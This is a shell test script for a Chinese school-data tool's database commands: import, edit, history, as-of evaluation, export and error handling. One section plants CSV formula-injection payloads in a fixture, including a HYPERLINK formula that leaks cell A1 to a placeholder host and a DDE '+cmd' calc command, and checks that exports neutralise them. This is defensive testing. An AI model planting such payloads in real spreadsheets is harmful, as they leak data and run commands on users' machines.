#!/bin/sh
# store.sh — end-to-end tests of the database commands: init, import (CSV,
# GB18030, XLSX; re-imports that lack columns, cells or schools, header
# typos, 清空, --replace), set (with --base-revision), delete, history (and
# --revisions), eval --as-of, database URIs, export round trips,
# bad input leaving the database byte-for-byte unchanged, and a SIGKILL in
# the middle of a big import.  Prints "e2e: N passed, N failed" last.
. "$(dirname "$0")/testlib.inc"
DB=$tmp/j.db

dbsum() { sha256sum "$DB" | cut -d' ' -f1; }

export JUNHENG_USER=tester

run "init" 0 init "$DB"
has "init: schema" "$tmp/out" "数据结构版本 9"
sum0=$(dbsum)
run "init again is harmless" 0 init "$DB"
has "init again: says it exists" "$tmp/out" "数据库 $DB 已存在(数据结构版本 9),未作任何改动"
if [ "$(dbsum)" = "$sum0" ]; then ok "init again: file unchanged"; else no "init again changed the file"; fi
run "init again (en)" 0 --lang en init "$DB"
has "init again en" "$tmp/out" "already exists (schema version 9); nothing was changed"
sqlite3 "$tmp/other.db" "CREATE TABLE t(x); INSERT INTO t VALUES (1);"
osum=$(sha256sum "$tmp/other.db" | cut -d' ' -f1)
run "init on another program's database" 1 init "$tmp/other.db"
has "init other: said" "$tmp/err" "不是均衡数据库(另一程序的 SQLite 文件,未作改动"
if [ "$(sha256sum "$tmp/other.db" | cut -d' ' -f1)" = "$osum" ]; then ok "init other: file unchanged"; else no "init other: file changed"; fi

# Schools of an unknown county are refused until the area table is in.
run "import without areas" 2 import "$DB" "$S/schools-2024.csv"
has "unknown county named" "$tmp/err" "schools-2024.csv:第2行:第3列(county_code): 县(市、区)代码 369901 不在数据库中"

run "import sample" 0 import "$DB" "$S/areas.csv" "$S"/schools-*.csv --why "initial load"
has "import: counts" "$tmp/out" "修订 1:936 行(新增 936,变更 0,未变 0)"
run "re-import is a no-op" 0 import "$DB" "$S/areas.csv" "$S"/schools-*.csv
has "no-op: said" "$tmp/out" "无变化:936 行与库中数据相同"
run "re-import GB18030 copy is a no-op" 0 import "$DB" "$S/gb18030/schools-2024.csv"
has "gb18030 no-op" "$tmp/out" "无变化:312 行"

# Evaluating the database equals evaluating the files.
"$J" eval "$S/areas.csv" "$S"/schools-*.csv --format json >"$tmp/files.json"
run "eval db" 0 eval "$DB" --format json
same "eval db = eval files" "$tmp/out" "$tmp/files.json"

# A changed file records only the changed fields.
sed 's/^\(2136990101,江城区实验小学,369901,2024,primary,,\)1887,/\11890,/' "$S/schools-2024.csv" >"$tmp/changed.csv"
run "import changed" 0 import "$DB" "$tmp/changed.csv" --why "更正在校生数"
has "changed: one row, one field" "$tmp/out" "修订 2:312 行(新增 0,变更 1,未变 311),1 个字段变更"
run "history json" 0 history "$DB" --school 2136990101 --format json
jqeq "history: last change" '.[-1] | "\(.revision) \(.field) \(.old)→\(.new) \(.who) \(.why)"' "2 students_primary 1887→1890 tester 更正在校生数"
jqeq "history: source and sha256" '.[-1].sources | test("changed.csv [0-9a-f]{64}$")' true

run "set" 0 set "$DB" --school 2136990101 --year 2024 teachers_primary=150 --why "核实"
has "set: one field" "$tmp/out" "修订 3:1 个字段变更"
run "set bad value" 2 set "$DB" --school 2136990101 --year 2024 teachers_primary=many --why x
has "set bad value: message" "$tmp/err" "“many”不是数字"
run "set unknown school" 2 set "$DB" --school 2136999999 --year 2024 teachers_primary=1 --why x
run "history text" 0 history "$DB" --school 2136990101
has "history text: edit" "$tmp/out" "2136990101 2024 年度 小学专任教师数:108 → 150"
has "history text: kind in Chinese" "$tmp/out" "  修改:核实"
has "history text: type by name" "$tmp/out" "2136990101 2022 年度 办学类型:∅ → 小学"
has "history text: location by name" "$tmp/out" "2136990101 2022 年度 城乡类型:∅ → 城区"
run "history text (en)" 0 --lang en history "$DB" --school 2136990101
has "history en: edit" "$tmp/out" "2136990101, 2024, primary full-time teachers: 108 → 150"
has "history en: type" "$tmp/out" "2136990101, 2022, school type: ∅ → primary school"
run "history county" 0 history "$DB" --county 369901 --format json
jqeq "history county: revisions" '[.[].revision] | unique | join(",")' "1,2,3"

# As-of reproduces earlier evaluations exactly.
run "eval as-of 1" 0 eval "$DB" --as-of 1 --format json
same "as-of 1 = original files" "$tmp/out" "$tmp/files.json"
# Revision times are the store's (no --at): every revision so far was
# made today, so the end of today is the latest revision; "today" is
# Beijing's day unless JUNHENG_TZ or TZ says otherwise.
"$J" eval "$DB" --format json >"$tmp/now.json"
run "eval as-of today" 0 eval "$DB" --as-of "$(TZ=Asia/Shanghai date +%Y-%m-%d)" --format json
same "as-of today = now" "$tmp/out" "$tmp/now.json"
JUNHENG_TZ=UTC "$J" eval "$DB" --as-of "$(date -u +%Y-%m-%d)" --format json >"$tmp/out" 2>"$tmp/err"
same "as-of today (UTC) = now" "$tmp/out" "$tmp/now.json"
"$J" eval "$S/areas.csv" "$tmp/changed.csv" "$S/schools-2022.csv" "$S/schools-2023.csv" --format json >"$tmp/changed.json"
run "eval as-of 2" 0 eval "$DB" --as-of 2 --format json
same "as-of 2 = changed files" "$tmp/out" "$tmp/changed.json"
run "as-of before anything" 2 eval "$DB" --as-of 2020-01-01
has "as-of before anything: said" "$tmp/err" "到 2020-01-01(当地时间)为止数据库还没有任何修订"
run "as-of no such revision" 2 eval "$DB" --as-of 99
has "as-of 99: range named" "$tmp/err" "没有修订 99(修订号从 1 到 "
if grep -q "not found\|找不到" "$tmp/err"; then no "as-of: vague message"; else ok "as-of: precise message"; fi
run "as-of bad" 2 eval "$DB" --as-of yesterday
has "as-of bad: message" "$tmp/err" "“yesterday”既不是修订号也不是日期(如 2024-05-01 或 2024-05-01T18:30:00,当地时间"
run "as-of bad (en)" 2 --lang en eval "$DB" --as-of yesterday
has "as-of bad en" "$tmp/err" "'yesterday' is neither a revision number nor a date"
run "as-of no such day" 2 eval "$DB" --as-of 2024-02-30
run "--at is gone" 2 import "$DB" "$S/areas.csv" --at 2024-01-01T00:00:00Z
has "--at: unknown option" "$tmp/err" "--at"

# Revisions listed, with their times in one UTC form.
run "revisions" 0 history "$DB" --revisions --format json
jqeq "revisions: numbers and kinds" '[.[] | "\(.revision):\(.kind)"] | join(",")' "1:import,2:import,3:edit"
jqeq "revisions: times in one UTC form" '[.[].at | test("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$")] | all' true
jqeq "revisions: sources of 2" '.[1].sources | test("^[^ ]*changed.csv [0-9a-f]{64}$")' true
run "revisions from 2, limit 1" 0 history "$DB" --revisions --from 2 --limit 1 --lang en
has "revisions text" "$tmp/out" "revision 2  "
# Shown in Beijing time: the stored UTC time plus 8 hours, worked out by
# date(1) from the system's time-zone data.
at2=$("$J" history "$DB" --revisions --format json | jq -r '.[1].at')
bj=$(TZ=Asia/Shanghai date -d "$at2" '+%Y-%m-%d %H:%M:%S')
has "revision time in Beijing time (en)" "$tmp/out" "revision 2  $bj (Beijing time)"
run "revisions zh" 0 history "$DB" --revisions --from 2 --limit 1
has "revision time in Beijing time" "$tmp/out" "修订 2  $bj (北京时间)"
utc2=$(TZ=UTC date -d "$at2" '+%Y-%m-%d %H:%M:%S')
JUNHENG_TZ=UTC "$J" history "$DB" --revisions --from 2 --limit 1 >"$tmp/out"
has "JUNHENG_TZ=UTC: UTC" "$tmp/out" "修订 2  $utc2 (协调世界时)"
TZ=UTC "$J" history "$DB" --revisions --from 2 --limit 1 >"$tmp/out"
has "TZ=UTC: UTC" "$tmp/out" "修订 2  $utc2 (协调世界时)"
TZ=UTC "$J" --lang en history "$DB" --revisions --from 2 --limit 1 >"$tmp/out"
has "TZ=UTC en: UTC" "$tmp/out" "revision 2  $utc2 (UTC)"
if grep -q "revision 3" "$tmp/out"; then no "limit 1 shows revision 3"; else ok "limit 1: only revision 2"; fi

# Optimistic edits: based on revision 2, the school-year changed at 3.
run "set on a stale view" 2 set "$DB" --school 2136990101 --year 2024 teachers_primary=151 --why x --base-revision 2
has "conflict names revision 3" "$tmp/err" "学校年度 2136990101/2024 在本次编辑所依据的修订之后已被修订 3 更改"
run "set bad base revision" 2 set "$DB" --school 2136990101 --year 2024 teachers_primary=151 --why x --base-revision two
run "set on the current view" 0 set "$DB" --school 2136990101 --year 2024 teachers_primary=150 --why x --base-revision 3
has "current view, same value: no change" "$tmp/out" "无变化"

# Database addresses: sqlite:FILE is the same database; PostgreSQL is
# recognised and refused for now.
run "sqlite: URI" 0 history "sqlite:$DB" --revisions
has "sqlite: URI reads it" "$tmp/out" "修订 3"
run "eval sqlite: URI" 0 eval "sqlite:$DB" --format json
same "eval sqlite: URI = eval path" "$tmp/out" "$tmp/now.json"
run "eval postgresql refused" 2 eval "postgresql://localhost/junheng"
has "eval postgresql: not built" "$tmp/err" "PostgreSQL 数据库后端尚未实现"
run "postgresql refused" 2 history "postgresql://localhost/junheng" --revisions
has "postgresql: not built" "$tmp/err" "PostgreSQL 数据库后端尚未实现"
run "postgresql refused (en)" 2 --lang en history "postgresql://localhost/junheng" --revisions
has "postgresql en" "$tmp/err" "the PostgreSQL database backend is not built yet"
run "unknown scheme" 2 history "mysql://localhost/junheng" --revisions
has "unknown scheme: named" "$tmp/err" "mysql://localhost/junheng"

run "delete" 0 delete "$DB" --school 2136990102 --year 2022 --why "重复登记"
run "deleted is gone" 0 eval "$DB" --county 369901 --year 2022 --format json
jqeq "deleted: not evaluated" '[.counties[0].schools[] | select(.school_code=="2136990102")] | length' 0
run "still there as-of 3" 0 eval "$DB" --as-of 3 --county 369901 --year 2022 --format json
jqeq "as-of 3: present" '[.counties[0].schools[] | select(.school_code=="2136990102")] | length' 1

# County-year records: imported, versioned, in the county's history.
run "import county items" 0 import "$DB" "$top/tests/fixtures/county-items.csv"
has "county items: counted" "$tmp/out" "3 条县级年度指标新增或变更"
sed 's/,0.97,/,1.01,/' "$top/tests/fixtures/county-items.csv" >"$tmp/items2.csv"
run "change a county item" 0 import "$DB" "$tmp/items2.csv"
has "county items: one changed" "$tmp/out" "1 条县级年度指标新增或变更"
run "county item history" 0 history "$DB" --county 369902 --format json
jqeq "county item change" '[.[] | select(.entity=="county_year") | "\(.field) \(.old)→\(.new)"] | join(";")' "teacher_pay_ratio null→0.97;teacher_pay_ratio 0.97→1.01"
run "re-import county items: no-op" 0 import "$DB" "$tmp/items2.csv"
has "county items no-op" "$tmp/out" "无变化"
printf 'county_code,year,item,value\n369999,2024,teacher_pay_ratio,1\n369901,2024,Bad Key,1\n' >"$tmp/items-bad.csv"
run "bad county items" 2 import "$DB" "$tmp/items-bad.csv"
has "bad county items: key" "$tmp/err" "items-bad.csv:第3行:第3列(item): 未知的键“Bad Key”"
printf "county_code,year,item,value\\n369901,2024,teacher_pay_ratio,high\\n369901,2024,rotation_rate,150\\n369901,2024,colour,1\\n" >"$tmp/items-bad2.csv"
run "bad county item values" 2 import "$DB" "$tmp/items-bad2.csv"
has "bad value: number" "$tmp/err" "items-bad2.csv:第2行:第4列(value): “high”应为不小于 0 的数"
has "bad value: rate" "$tmp/err" "items-bad2.csv:第3行:第4列(value): “150”应为比例:0 至 1 之间的数,或百分数如 95%"
has "bad value: unknown item" "$tmp/err" "items-bad2.csv:第4行:第3列(item): 未知的指标“colour”"
run "bad county item values (en)" 2 --lang en import "$DB" "$tmp/items-bad2.csv"
has "bad value en: rate" "$tmp/err" "items-bad2.csv:line 3:column 4(value): '150' should be a rate: 0 to 1, or a percentage like 95%"

# Export round trips.
run "export csv" 0 export "$DB" --year 2023 -o "$tmp/e.csv"
run "import export: no-op" 0 import "$DB" "$tmp/e.csv"
has "export csv no-op" "$tmp/out" "无变化:312 行"
"$J" init "$tmp/k.db" >/dev/null; "$J" import "$tmp/k.db" "$S/areas.csv" "$tmp/e.csv" >/dev/null
"$J" export "$tmp/k.db" --year 2023 -o "$tmp/e2.csv"
same "export → import → export is identical" "$tmp/e.csv" "$tmp/e2.csv"
run "export xlsx" 0 export "$DB" --year 2023 -o "$tmp/e.xlsx"
run "import xlsx export: no-op" 0 import "$DB" "$tmp/e.xlsx"
has "xlsx no-op" "$tmp/out" "无变化:312 行"
run "export to stdout" 0 export "$DB" --year 2024 --county 369902
has "export county only" "$tmp/out" "安平"

# Exports Chinese Excel opens safely (issue 9 §4): a UTF-8 BOM, Chinese
# headers and values by default, the English keys with --headers en;
# both forms, and both as XLSX, import back as no change.
bom() { if [ "$(head -c 3 "$2" | od -An -tx1 | tr -d ' ')" = efbbbf ]; then ok "$1"; else no "$1: no UTF-8 BOM"; fi; }
bom "export csv: BOM" "$tmp/e.csv"
has "export csv: Chinese header" "$tmp/e.csv" "学校标识码,学校名称,县(市、区)代码,年度,办学类型,所属中心校,"
has "export csv: Chinese values" "$tmp/e.csv" "2136990101,江城区实验小学,369901,2023,小学,,"
run "export --headers en" 0 export "$DB" --year 2023 --headers en -o "$tmp/en.csv"
bom "export en: BOM" "$tmp/en.csv"
has "export en: keys" "$tmp/en.csv" "school_code,school_name,county_code,year,school_type,parent_code,"
has "export en: values" "$tmp/en.csv" "2136990101,江城区实验小学,369901,2023,primary,,"
run "import en export: no-op" 0 import "$DB" "$tmp/en.csv"
has "en export no-op" "$tmp/out" "无变化:312 行"
run "export en xlsx" 0 export "$DB" --year 2023 --headers en -o "$tmp/en.xlsx"
run "import en xlsx: no-op" 0 import "$DB" "$tmp/en.xlsx"
has "en xlsx no-op" "$tmp/out" "无变化:312 行"
run "export bad --headers" 2 export "$DB" --year 2023 --headers fr
run "export --lang en: English keys" 0 --lang en export "$DB" --year 2023 --county 369901
has "lang en export: keys" "$tmp/out" "school_code,school_name,county_code,year,school_type,"
run "xlsx to a missing folder" 1 export "$DB" --year 2023 -o "$tmp/none/e.xlsx"
has "missing folder: said in Chinese" "$tmp/err" "无法写入 $tmp/none/e.xlsx"
if grep -q "ERROR" "$tmp/err"; then no "missing folder: libxlsxwriter's English on stderr"; else ok "missing folder: one language"; fi
run "csv to a missing folder" 1 export "$DB" --year 2023 -o "$tmp/none/e.csv"
has "csv missing folder" "$tmp/err" "无法写入 $tmp/none/e.csv"

# Names that are formulas: guarded with one ' in CSV (export and eval),
# strings in XLSX, and every export imports back to the same names.
awk -F, 'BEGIN { OFS = "," }
	NR == 1 { print $0 ",备注"; next }
	NR == 2 { $2 = "=1+1"; print $0 ",\t=2+2"; next }
	NR == 3 { $2 = "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\""; print $0 ",-5"; next }
	NR == 4 { $2 = "+cmd|'"'"' /C calc'"'"'!A0"; print $0 ","; next }
	NR == 5 { $2 = "@SUM(1+1)"; print $0 ","; next }
	{ print $0 "," }' "$S/schools-2024.csv" >"$tmp/inj.csv"
# newdb DB FILE: a new database holding the areas and FILE.
newdb() { "$J" init "$1" >/dev/null; "$J" import "$1" "$S/areas.csv" "$2" >/dev/null; }
IDB=$tmp/inj.db
newdb "$IDB" "$tmp/inj.csv"
run "export formulas" 0 export "$IDB" --year 2024 -o "$tmp/inj-e.csv"
has "guard: =1+1" "$tmp/inj-e.csv" "2136990101,'=1+1,369901,"
has "guard: HYPERLINK" "$tmp/inj-e.csv" "2136990102,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",369901,"
has "guard: +cmd" "$tmp/inj-e.csv" "2136990103,'+cmd|' /C calc'!A0,369901,"
has "guard: @SUM" "$tmp/inj-e.csv" "2136990104,'@SUM(1+1),369901,"
has "guard: tab" "$tmp/inj-e.csv" ",'	=2+2"
has "guard: minus" "$tmp/inj-e.csv" ",'-5"
run "import guarded export: no-op" 0 import "$IDB" "$tmp/inj-e.csv"
has "guarded export no-op" "$tmp/out" "无变化:312 行"
run "history: names unchanged" 0 history "$IDB" --school 2136990101 --format json
jqeq "history: only the first import" '[.[].revision] | unique | map(tostring) | join(",")' 1
# set reads the row back through the machine-form export: the guard
# comes off, so only the field set changes.
run "set beside a formula name" 0 set "$IDB" --school 2136990101 --year 2024 --why test students_primary=1888
has "set: one field" "$tmp/out" "1 个字段变更"
run "export formulas en" 0 export "$IDB" --year 2024 --headers en -o "$tmp/inj-en.csv"
run "import guarded en export: no-op" 0 import "$IDB" "$tmp/inj-en.csv"
has "guarded en export no-op" "$tmp/out" "无变化:312 行"
run "export formulas xlsx" 0 export "$IDB" --year 2024 -o "$tmp/inj.xlsx"
run "import formulas xlsx: no-op" 0 import "$IDB" "$tmp/inj.xlsx"
has "formulas xlsx no-op" "$tmp/out" "无变化:312 行"
run "eval csv of formulas" 0 eval "$IDB" --format csv
bom "eval csv: BOM" "$tmp/out"
has "eval csv: guarded name" "$tmp/out" ",2136990101,'=1+1,小学,"
has "eval csv: guarded HYPERLINK" "$tmp/out" ",2136990102,\"'=HYPERLINK("

# A value XLSX cannot hold is an error naming the cell (the sample's 33
# columns, then 备注 as column 34); no file is left.
awk 'NR == 1 { print $0 ",备注"; next }
	NR == 4 { s = ""; for (i = 0; i < 40000; i++) s = s "长"; print $0 "," s; next }
	{ print $0 "," }' "$S/schools-2024.csv" >"$tmp/long.csv"
LDB=$tmp/long.db
newdb "$LDB" "$tmp/long.csv"
run "xlsx: cell too long" 2 export "$LDB" --year 2024 -o "$tmp/long.xlsx"
has "too long: names the cell" "$tmp/err" "long.xlsx[学校]:第4行:第34列(备注): 学校 2136990103 的这个值有 40,000 个字符,超过 XLSX 单元格能存的 32,767 个字符"
has "too long: not written" "$tmp/err" "未写入"
if [ -e "$tmp/long.xlsx" ]; then no "too long: a file was left"; else ok "too long: no file left"; fi
run "xlsx: cell too long (en)" 2 --lang en export "$LDB" --year 2024 -o "$tmp/long.xlsx"
has "too long en" "$tmp/err" "long.xlsx[schools]:line 4:column 34(备注): school 2136990103: the value has 40,000 characters"
run "csv holds it" 0 export "$LDB" --year 2024 -o "$tmp/long-e.csv"
run "import long csv: no-op" 0 import "$LDB" "$tmp/long-e.csv"
has "long csv no-op" "$tmp/out" "无变化:312 行"

# Bad input: clear errors and the database unchanged to the byte.
before=$(dbsum)
sed '3s/,369901,/,369999,/' "$S/schools-2024.csv" >"$tmp/unknown.csv"
run "unknown county" 2 import "$DB" "$tmp/unknown.csv"
has "unknown county: place" "$tmp/err" "unknown.csv:第3行:第3列(county_code): 县(市、区)代码 369999 不在数据库中"
sed '2s/,369901,2024,primary/,369902,2024,primary/' "$S/schools-2024.csv" >"$tmp/moved.csv"
run "school in two counties" 2 import "$DB" "$tmp/moved.csv"
has "moved: message" "$tmp/err" "学校 2136990101 已登记在县(市、区) 369901,不能同时属于两个县"
sed '2s/,369901,2024,primary/,369901,2024,nine_year/' "$S/schools-2024.csv" >"$tmp/type.csv"
run "type change within a stored year" 2 import "$DB" "$tmp/type.csv"
has "type: message" "$tmp/err" "type.csv:第2行:第5列(school_type): 学校 2136990101 在 2024 年度已登记为另一种办学类型;导入不改变已登记年度的办学类型(不同年度可以不同),如需更正请用 junheng set"
sed '2s/,urban,46,/,urban,2,/' "$S/schools-2024.csv" >"$tmp/absurd.csv"
run "absurd class size" 2 import "$DB" "$tmp/absurd.csv"
has "absurd: reason" "$tmp/err" "944 students per class (more than 100)"
sed '1s/school_name/school_code/' "$S/schools-2024.csv" >"$tmp/duphdr.csv"
run "duplicate header" 2 import "$DB" "$tmp/duphdr.csv"
has "duplicate header: named" "$tmp/err" "duphdr.csv:第1行:第2列(school_code): 列“school_code”重复出现"
cut -d, -f1-20 "$S/schools-2024.csv" >"$tmp/missing.csv"
run "missing column" 2 import "$DB" "$tmp/missing.csv"
has "missing column: named" "$tmp/err" "缺少必需的列“multimedia_rooms”"
printf '\377\376s\000c\000\n' >"$tmp/utf16.csv"
run "wrong encoding" 2 import "$DB" "$tmp/utf16.csv"
has "wrong encoding: named" "$tmp/err" "utf16.csv: 文件既不是 UTF-8 也不是 GB18030 编码"
sed '3s/,2024,/,2023,/' "$S/schools-2024.csv" >"$tmp/year.csv"
run "year differs from --year" 2 import "$DB" "$tmp/year.csv" --year 2024
has "year: message" "$tmp/err" "year.csv:第3行:第4列(year): 本行年度为 2023,但导入指定的年度为 2024"
echo "just text" >"$tmp/notxlsx.xlsx"
run "not an xlsx" 2 import "$DB" "$tmp/notxlsx.xlsx"
has "not xlsx: reason" "$tmp/err" "notxlsx.xlsx: 不是有效的 XLSX 文件"
head -c 3000 "$tmp/e.xlsx" >"$tmp/trunc.xlsx"
run "truncated xlsx" 2 import "$DB" "$tmp/trunc.xlsx"
has "truncated: reason" "$tmp/err" "trunc.xlsx: 不是有效的 XLSX 文件"
head -c 1048576 /dev/urandom >"$tmp/garbage.csv"
run "1 MB of garbage" 2 import "$DB" "$tmp/garbage.csv"
run "good file + bad file" 2 import "$DB" "$tmp/changed.csv" "$tmp/unknown.csv"
if [ "$(dbsum)" = "$before" ]; then ok "database unchanged to the byte"; else no "database changed"; fi

run "not a database" 2 eval "$tmp/garbage.csv"
printf 'SQLite format 3\000garbage garbage garbage' >"$tmp/fake.db"
run "corrupt database" 1 history "$tmp/fake.db" --school 1
has "corrupt database: said in Chinese" "$tmp/err" "fake.db: 文件不是数据库或数据库已损坏(请从备份恢复)"
run "corrupt database: eval" 1 eval "$tmp/fake.db"
has "corrupt database: eval said" "$tmp/err" "文件不是数据库或数据库已损坏"
# Damaged inside (pages overwritten): SQLite's "database disk image is
# malformed" said in Chinese, never in SQLite's English.
cp "$DB" "$tmp/damaged.db"
dd if=/dev/urandom of="$tmp/damaged.db" bs=8192 seek=3 count=20 conv=notrunc 2>/dev/null
run "damaged database" 1 eval "$tmp/damaged.db" --format json
has "damaged: said in Chinese" "$tmp/err" "文件不是数据库或数据库已损坏"
if grep -q "malformed\|database disk" "$tmp/err"; then no "damaged: SQLite's English shown"; else ok "damaged: no SQLite English"; fi
for cmd in "import $tmp/none.db $S/areas.csv" "eval $tmp/none.db" "history $tmp/none.db --revisions" \
           "verdict $tmp/none.db --year 2024" "export $tmp/none.db --year 2024"; do
	# shellcheck disable=SC2086
	run "missing database: ${cmd%% *}" 2 $cmd
	has "missing database: ${cmd%% *} says init" "$tmp/err" "数据库 $tmp/none.db 不存在;请先运行 junheng init $tmp/none.db 创建"
done
if [ -e "$tmp/none.db" ]; then no "missing database was created"; else ok "missing database not created"; fi
# A database is known by its content, not its name.
cp "$DB" "$tmp/j.data"
"$J" eval "$DB" --format json >"$tmp/db.json"
run "database named .data" 0 eval "$tmp/j.data" --format json
same "database named .data = the database" "$tmp/out" "$tmp/db.json"

# Read commands on a read-only file in a read-only directory, as a user
# who may only read (root may write anything: the commands run as nobody
# when the tests run as root).
mkdir "$tmp/ro"
cp "$DB" "$tmp/ro/j.db"
rm -f "$tmp/ro/j.db-wal" "$tmp/ro/j.db-shm"
chmod 444 "$tmp/ro/j.db"
chmod 555 "$tmp/ro"
chmod 755 "$tmp"
asuser=""
if [ "$(id -u)" = 0 ]; then asuser="setpriv --reuid=65534 --regid=65534 --clear-groups"; fi
ro_sum=$(sha256sum "$tmp/ro/j.db" | cut -d' ' -f1)
rorun() {
	name=$1; want=$2; shift 2
	$asuser "$J" "$@" >"$tmp/out" 2>"$tmp/err"
	got=$?
	if [ "$got" = "$want" ]; then ok "$name (exit $got)"; else
		no "$name: exit $got, want $want" "$(cat "$tmp/err")"; fi
}
rorun "read-only: eval" 0 eval "$tmp/ro/j.db" --format json
same "read-only: eval = eval" "$tmp/out" "$tmp/db.json"
rorun "read-only: verdict" 0 verdict "$tmp/ro/j.db" --county 369901 --year 2024
rorun "read-only: gaps" 0 gaps "$tmp/ro/j.db" --county 369903 --year 2024 --time-limit 2
rorun "read-only: history" 0 history "$tmp/ro/j.db" --school 2136990101
rorun "read-only: export" 0 export "$tmp/ro/j.db" --year 2024
printf 'action,school_code,field,value,target\nadd,2136990201,teachers_primary,3,\n' >"$tmp/plan.csv"
chmod 644 "$tmp/plan.csv"
rorun "read-only: whatif" 0 whatif "$tmp/ro/j.db" --county 369902 --year 2024 --change "$tmp/plan.csv"
if [ -n "$asuser" ] || [ "$(id -u)" != 0 ]; then
	rorun "read-only: import refused" 1 import "$tmp/ro/j.db" "$S/areas.csv" "$tmp/changed.csv"
	has "read-only: said in Chinese" "$tmp/err" "数据库文件只读,无法写入"
	if grep -q "readonly\|attempt to write" "$tmp/err"; then no "read-only: SQLite's English shown"; else ok "read-only: no SQLite English"; fi
fi
if [ "$(sha256sum "$tmp/ro/j.db" | cut -d' ' -f1)" = "$ro_sum" ]; then ok "read-only: file unchanged"; else no "read-only: file changed"; fi
if [ -e "$tmp/ro/j.db-wal" ] || [ -e "$tmp/ro/j.db-shm" ]; then no "read-only: -wal or -shm left"; else ok "read-only: nothing created"; fi
chmod 755 "$tmp/ro"

# School types by year: a primary school may become a nine-year school
# the next year; the history shows both years' types.
"$J" init "$tmp/t.db" >/dev/null
"$J" import "$tmp/t.db" "$S/areas.csv" "$S/schools-2022.csv" >/dev/null
sed '2s/,369901,2023,primary,/,369901,2023,nine_year,/' "$S/schools-2023.csv" >"$tmp/type23.csv"
run "type changes between years" 0 import "$tmp/t.db" "$tmp/type23.csv"
run "type: history" 0 history "$tmp/t.db" --school 2136990101
has "type: 2022 primary" "$tmp/out" "2136990101 2022 年度 办学类型:∅ → 小学"
has "type: 2023 nine-year" "$tmp/out" "2136990101 2023 年度 办学类型:∅ → 九年一贯制学校"
run "set type by Chinese names" 0 set "$tmp/t.db" --school 2136990101 --year 2022 办学类型=九年一贯制学校 小学在校生数=500 --why 核实
has "set Chinese: two fields" "$tmp/out" "2 个字段变更"
run "type: history of the edit" 0 history "$tmp/t.db" --school 2136990101
has "type edit: recorded" "$tmp/out" "2136990101 2022 年度 办学类型:小学 → 九年一贯制学校"
has "pupils edit: recorded" "$tmp/out" "2136990101 2022 年度 小学在校生数:1810 → 500"
# Two rows for one school in one year with different types: both named.
{ head -1 "$S/schools-2024.csv"; sed -n 2p "$S/schools-2024.csv" | sed 's/,369901,2024,primary,/,369901,2024,nine_year,/'; } >"$tmp/dup24.csv"
run "two rows, two types" 2 import "$tmp/t.db" "$S/schools-2024.csv" "$tmp/dup24.csv"
has "two rows: both named" "$tmp/err" "dup24.csv:第2行:第1列(school_code): 学校 2136990101 在同一年度重复出现(另见 $S/schools-2024.csv:2)"

# Re-imports never lose data silently (issue 9), in a database of their own.
R=$tmp/r.db
rsum() { sha256sum "$R" | cut -d' ' -f1; }
"$J" init "$R" >/dev/null
run "reimport: base" 0 import "$R" "$S/areas.csv" "$S/schools-2024.csv"
"$J" eval "$R" --format json >"$tmp/r0.json"
"$J" verdict "$R" --county 369901 --year 2024 --format json >"$tmp/r0v.json"
# A corrected copy with the required columns only (the first 21).
cut -d, -f1-21 "$S/schools-2024.csv" >"$tmp/required.csv"
run "reimport: required columns only" 0 import "$R" "$tmp/required.csv"
has "required only: nothing changes" "$tmp/out" "无变化:312 行与库中数据相同"
run "required only: eval" 0 eval "$R" --format json
same "required only: same evaluation" "$tmp/out" "$tmp/r0.json"
run "required only: verdict" 0 verdict "$R" --county 369901 --year 2024 --format json
same "required only: same verdict" "$tmp/out" "$tmp/r0v.json"
# A header typo is refused with the suggestion, in either language.
before=$(rsum)
sed '1s/largest_class_primary/小学最大班级人数/' "$S/schools-2024.csv" >"$tmp/typo.csv"
run "typo header" 2 import "$R" "$tmp/typo.csv"
has "typo: suggestion" "$tmp/err" "typo.csv:第1行:第25列(小学最大班级人数): 不是模板中的列,但与模板列相近:是否应为「小学最大班额」?"
has "typo: how to declare" "$tmp/err" "--extra-columns"
run "typo header (en)" 2 --lang en import "$R" "$tmp/typo.csv"
has "typo en: suggestion" "$tmp/err" "did you mean 'largest_class_primary'?"
if grep -q "小学最大班额" "$tmp/err"; then no "typo en: no Chinese template name"; else ok "typo en: no Chinese template name"; fi
if [ "$(rsum)" = "$before" ]; then ok "typo: database unchanged"; else no "typo: database changed"; fi
run "typo declared" 0 import "$R" "$tmp/typo.csv" --extra-columns 小学最大班级人数
run "typo declared: history" 0 history "$R" --school 2136990101 --format json
jqeq "declared: an extra, the real column kept" '[.[] | select(.revision == 2) | "\(.field) \(.old)→\(.new)"] | join(";")' "extra:小学最大班级人数 null→45"
sed '1s/largest_class_primary/邮政编码/' "$S/schools-2024.csv" >"$tmp/unrelated.csv"
run "unrelated extra column allowed" 0 import "$R" "$tmp/unrelated.csv"
# A blank cell keeps the stored value; 清空 clears it.
sed 's/^\(2136990101,.*,urban,46,0,\)45,/\1,/' "$S/schools-2024.csv" >"$tmp/blank.csv"
run "blank cell" 0 import "$R" "$tmp/blank.csv"
has "blank cell: nothing changes" "$tmp/out" "无变化:312 行"
sed 's/^\(2136990101,.*,urban,46,0,\)45,/\1清空,/' "$S/schools-2024.csv" >"$tmp/clear.csv"
run "清空 clears" 0 import "$R" "$tmp/clear.csv" --why "无此数据"
has "清空: one field" "$tmp/out" "变更 1,未变 311),1 个字段变更"
run "清空: history" 0 history "$R" --school 2136990101 --format json
jqeq "清空: recorded" '.[-1] | "\(.field) \(.old)→\(.new) \(.why)"' "largest_class_primary 45→null 无此数据"
run "set FIELD= clears" 0 set "$R" --school 2136990101 --year 2024 music_rooms= --why "核实"
has "set clear: one field" "$tmp/out" "1 个字段变更"
run "set clear: history" 0 history "$R" --school 2136990101 --format json
jqeq "set clear: recorded" '.[-1] | "\(.field) \(.old)→\(.new) \(.kind)"' "music_rooms 5→null edit"
run "set clear required" 2 set "$R" --school 2136990101 --year 2024 teachers_primary= --why x
has "set clear required: message" "$tmp/err" "必填列不能清空"
# A school missing from a corrected file: listed with the command, kept.
grep -v '^2136990102,' "$tmp/clear.csv" >"$tmp/minus.csv"
run "school missing" 0 import "$R" "$tmp/minus.csv"
has "missing: named" "$tmp/out" "369901 2024 2136990102 江城区第一小学"
has "missing: the command" "$tmp/out" "junheng delete $R --school 2136990102 --year 2024 --why \"不在更正后的文件中\""
